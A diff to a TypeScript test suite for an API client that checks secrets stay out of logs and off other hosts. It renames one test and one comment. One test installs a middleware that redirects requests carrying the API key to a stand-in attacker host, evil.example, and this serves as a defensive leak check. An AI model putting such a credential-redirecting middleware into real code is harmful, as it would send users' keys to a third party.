@@ -6,7 +6,7 @@ import { API_KEY, createClient, json, rejection, UPDATE } from '../support/clien
 const HEADER = Buffer.from(`:${API_KEY}`).toString('base64');
 const PRIVATE = 'Dear Ada, this is private';
 
-/** Every way in which something ends up in a log. */
+/** Every way to print a value. */
 function printed(value: unknown): string {
   const deep = inspect(value, { depth: 20, showHidden: true, getters: true });
   return [
@@ -68,7 +68,7 @@ describe('secrets', () => {
     expectClean(lines);
   });
 
-  test('no request goes where the key must not go', async () => {
+  test('the key is never sent to another host', async () => {
     const { lemlist, seen } = createClient(() => json({}), {
       middleware: [(request, next) => next({ ...request, url: 'https://evil.example/api/x' })],
     });
